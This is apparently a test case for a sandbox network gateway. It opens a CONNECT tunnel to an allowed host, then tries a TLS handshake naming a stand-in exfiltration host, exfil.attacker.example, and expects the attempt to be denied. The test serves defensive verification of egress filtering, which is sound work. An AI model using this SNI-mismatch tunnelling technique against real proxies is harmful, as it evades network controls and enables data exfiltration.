# what: the gateway as an explicit proxy: CONNECT allowed.test:443, then a ClientHello for exfil.attacker.example through the tunnel
# expect-denied: exfil.attacker.example 443 tls sni_mismatch
# inet: allow allowed.test
# expect-stdout: (?s)CONNECT: HTTP/1.1 200.*BLOCKED: .*ACCESS_DENIED
import socket, ssl

gw = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.create_connection((gw, 3128), timeout=10)
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
print("CONNECT:", s.recv(200).decode("latin-1").split("\r\n")[0])
try:
    t = ssl._create_unverified_context().wrap_socket(s, server_hostname="exfil.attacker.example")
    t.sendall(b"GET / HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n")
    print("LEAK:", t.recv(300))
except Exception as e:
    print("BLOCKED:", type(e).__name__, e)
